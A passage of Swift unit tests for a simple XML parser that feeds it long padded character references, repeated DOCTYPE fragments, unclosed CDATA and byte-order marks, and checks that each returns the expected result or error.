        #expect(try flatParse("<xml><a>&#" + String(repeating: "0", count: m) + "65;</a></xml>")
            == flatElements(["a": "A"]))
        #expect(flatFailure(String(repeating: "<!DOCTYP", count: m / 8)) == .unsupportedMarkup)
        #expect(flatFailure(String(repeating: "<!DOCTYP", count: m / 8) + "E") == .doctype)
        #expect(flatFailure("<xml><a>" + String(repeating: "<", count: m)) == .nested(element: "a"))
        #expect(flatFailure("<xml><a><![CDATA[" + String(repeating: "]]", count: m / 2)) == .truncated)
        #expect(flatFailure(String(repeating: "\u{FEFF}", count: m / 3)) == .contentBeforeRoot)
    }
}
